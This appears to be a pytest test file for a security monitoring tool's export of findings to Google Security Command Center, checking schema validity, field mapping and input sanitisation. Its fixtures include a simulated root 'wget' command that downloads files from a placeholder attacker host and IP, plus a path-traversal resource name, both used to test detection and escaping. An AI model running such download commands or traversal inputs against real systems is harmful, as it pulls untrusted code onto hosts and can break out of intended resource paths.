"""The SCC export against the Security Command Center v1 discovery document that google-api-python-client
ships: every key must be one the `Finding` resource defines (recursively), with its type, int64 and
datetime formats and enum values — for a finding of every category, made by the real pipeline and store."""

from __future__ import annotations

import json
import re
from functools import cache
from importlib.resources import files
from pathlib import Path
from typing import Any, get_args

import jsonschema
import msgspec
import pytest
from tests.detections import FOREIGN, PACKED, POD, detection

from bindrift.config import SccSettings
from bindrift.findings.pipeline import FindingsPipeline
from bindrift.schema.finding import Category, FileInfo, Finding, IntelMatch, ProcessInfo, Resource
from bindrift.sinks.exports.scc import to_scc
from bindrift.sinks.store.sql_store import SqlStore

RFC3339 = r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,9})?Z$"


def _json_schema(node: dict[str, Any]) -> dict[str, Any]:
    """A discovery-document schema as JSON Schema: objects closed to keys they do not define."""
    if "$ref" in node:
        return {"$ref": f"#/definitions/{node['$ref']}"}
    kind = node.get("type")
    out: dict[str, Any] = {}
    if kind == "object":
        out["type"] = "object"
        out["properties"] = {k: _json_schema(v) for k, v in node.get("properties", {}).items()}
        extra = node.get("additionalProperties")
        out["additionalProperties"] = _json_schema(extra) if extra is not None else False
    elif kind == "array":
        out = {"type": "array", "items": _json_schema(node["items"])}
    elif kind == "string":
        out["type"] = "string"
        if node.get("format") in ("int64", "uint64"):
            out["pattern"] = r"^-?\d+$"
        elif node.get("format") == "google-datetime":
            out["pattern"] = RFC3339
        if "enum" in node:
            out["enum"] = [v for v in node["enum"] if not v.endswith("_UNSPECIFIED")]
    elif kind in ("integer", "number", "boolean"):
        out["type"] = kind
    # "any": no constraint
    return out


@cache
def finding_validator() -> jsonschema.Draft7Validator:
    document = files("googleapiclient") / "discovery_cache" / "documents" / "securitycenter.v1.json"
    schemas = json.loads(document.read_text())["schemas"]
    schema = {"$ref": "#/definitions/Finding", "definitions": {k: _json_schema(v) for k, v in schemas.items()}}
    return jsonschema.Draft7Validator(schema)


def violations(body: dict[str, Any]) -> list[str]:
    return [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in finding_validator().iter_errors(body)]


def test_the_validator_rejects_what_scc_does_not_define() -> None:
    assert violations({"category": "x", "state": "ACTIVE"}) == []
    assert violations({"files": [{"path": "/x", "size": 12}]}), "int64 values are strings"
    assert violations({"processes": [{"binary": {"path": "/x", "hash": "y"}}]}), "unknown nested key"
    assert violations({"severity": "SEVERE"}), "enum"
    assert violations({"eventTime": "yesterday"}), "datetime"


WRITER = ProcessInfo(pid=4200, ppid=4100, comm="wget", exe="/usr/bin/wget", uid=0, downloaded_by="wget",
                     args=["wget", "-O", "/tmp/x", "http://198.51.100.7/x", "https://evil.example/y"])  # fmt: skip
HOST = Resource(node="node-1")


def _findings(store: SqlStore) -> dict[str, Finding]:
    """One finding of every category, as the real pipeline stores them."""
    pipeline = FindingsPipeline(store)
    made: dict[str, Finding] = {}
    for i, category in enumerate(get_args(Category)):
        changes: dict[str, Any] = {"category": category, "file": FileInfo(path=f"/tmp/x{i}", sha256=f"{i:064x}",
                                                                            size=1000 + i)}  # fmt: skip
        if category == "Suspicious binary":
            changes |= {"process": None, "writer": WRITER,
                        "file": FileInfo(path="/tmp/x", sha256="e" * 64, size=9, triage=[FOREIGN, PACKED])}  # fmt: skip
        if "Malicious" in category:
            changes["intel"] = [IntelMatch(source="iocs.txt", kind="sha256", name="coinminer"),
                                IntelMatch(source="rules", kind="yara", name="Mirai_UPX")]  # fmt: skip
        if category in ("Coverage degraded", "Prevention degraded"):
            changes |= {"process": None, "writer": None, "resource": HOST,
                        "file": FileInfo(path="")}  # fmt: skip
        made[category] = pipeline.process(detection(minutes=i * 100, **changes))
    return made


@pytest.mark.parametrize("configured", [False, True], ids=["defaults", "gke"])
def test_every_category_is_a_valid_scc_finding(store: SqlStore, configured: bool) -> None:
    target = SccSettings(parent="organizations/123/sources/456", project="p-1", location="europe-west1",
                         explorer_url="https://bindrift.corp:8080/") if configured else SccSettings()  # fmt: skip
    for category, finding in _findings(store).items():
        body = to_scc(finding, target)
        assert violations(body) == [], category
        assert body["category"] == category
        if configured:
            assert body["externalUri"] == f"https://bindrift.corp:8080/#/finding/{finding.id}"
        else:
            assert "externalUri" not in body, "no Explorer address configured: nothing invented"


def test_scc_finding_fields(store: SqlStore) -> None:
    made = _findings(store)
    target = SccSettings(project="p-1", location="europe-west1")
    body = to_scc(made["Added Malicious Binary Executed"], target)
    assert body["resourceName"] == "//container.googleapis.com/projects/p-1/locations/europe-west1/clusters/prod-eu"
    finding = made["Added Malicious Binary Executed"]
    assert body["files"] == [{"path": finding.file.path, "sha256": finding.file.sha256, "size": str(finding.file.size)}]
    process, writer = body["processes"]
    assert process["binary"] == body["files"][0], "the executed process's binary is the file"
    assert (process["pid"], process["args"]) == ("4242", ["/tmp/x", "--serve"])
    assert writer["binary"] == {"path": "/bin/busybox"}, "the writer's binary: only what is known, no size 0"
    assert "parentPid" not in writer and "userId" not in writer
    signatures = body["indicator"]["signatures"]
    assert {"signatureType": "SIGNATURE_TYPE_FILE", "memoryHashSignature": {
        "binaryFamily": "coinminer", "detections": [{"binary": finding.file.sha256, "percentPagesMatched": 100.0}]}
    } in signatures  # fmt: skip
    assert {"signatureType": "SIGNATURE_TYPE_FILE", "yaraRuleSignature": {"yaraRule": "Mirai_UPX"}} in signatures
    assert body["kubernetes"] == {
        "pods": [{"ns": "shop", "name": "web-0", "containers": [
            {"name": "app", "uri": POD.image, "imageId": POD.image_digest}]}],
        "nodes": [{"name": "//compute.googleapis.com/projects/p-1/zones/europe-west1/instances/node-1"}],
    }  # fmt: skip
    assert body["mitreAttack"]["primaryTechniques"] == ["INGRESS_TOOL_TRANSFER", "NATIVE_API", "USER_EXECUTION"]
    assert body["mitreAttack"]["primaryTactic"] == "COMMAND_AND_CONTROL"


def test_download_uris_and_hosts_from_the_writer(store: SqlStore) -> None:
    body = to_scc(_findings(store)["Suspicious binary"])
    indicator = body["indicator"]
    assert indicator["uris"] == ["http://198.51.100.7/x", "https://evil.example/y"]
    assert (indicator["ipAddresses"], indicator["domains"]) == (["198.51.100.7"], ["evil.example"])
    (writer,) = body["processes"]
    assert writer["binary"] == {"path": "/usr/bin/wget"} and writer["parentPid"] == "4100" and writer["userId"] == "0"
    assert body["mitreAttack"]["primaryTechniques"] == ["INGRESS_TOOL_TRANSFER", "OBFUSCATED_FILES_OR_INFO"]
    assert body["resourceName"] == "//bindrift/clusters/prod-eu/nodes/node-1", "the documented node URI"


def test_coverage_gaps_are_scc_errors_on_the_node(store: SqlStore) -> None:
    body = to_scc(_findings(store)["Coverage degraded"])
    assert body["findingClass"] == "SCC_ERROR" and body["resourceName"] == "//bindrift/nodes/node-1"
    assert not body.keys() & {"files", "processes", "containers", "kubernetes", "indicator"}


def test_workload_strings_cannot_add_resource_name_segments(store: SqlStore) -> None:
    hostile = Resource(node="n/../../projects/other", cluster="c/x")
    finding = FindingsPipeline(store).process(detection(resource=hostile))
    name = to_scc(finding, SccSettings(project="p", location="l"))["resourceName"]
    assert name == "//container.googleapis.com/projects/p/locations/l/clusters/c%2Fx"
    assert re.fullmatch(r"//bindrift/clusters/c%2Fx/nodes/n%2F\.\.%2F\.\.%2Fprojects%2Fother",
                        to_scc(finding)["resourceName"])  # fmt: skip


def test_export_cli_takes_the_scc_settings(store: SqlStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from typer.testing import CliRunner

    from bindrift.cli.main import app

    FindingsPipeline(store).process(detection())
    config = tmp_path / "config.toml"
    config.write_text('[scc]\nparent = "organizations/9/sources/8"\nexplorer_url = "http://127.0.0.1:8080"\n')
    monkeypatch.setenv("BINDRIFT_CONFIG", str(config))
    url = store.url
    result = CliRunner().invoke(app, ["findings", "export", "--format", "scc", "--db", url,
                                      "--gcp-project", "p-2", "--gcp-location", "us-east1"])  # fmt: skip
    assert result.exit_code == 0, result.output
    (line,) = result.stdout.splitlines()
    body = msgspec.json.decode(line)
    assert body["parent"] == "organizations/9/sources/8" and body["externalUri"].startswith("http://127.0.0.1:8080/#/")
    assert body["resourceName"].startswith("//container.googleapis.com/projects/p-2/locations/us-east1/")
    assert violations(body) == []
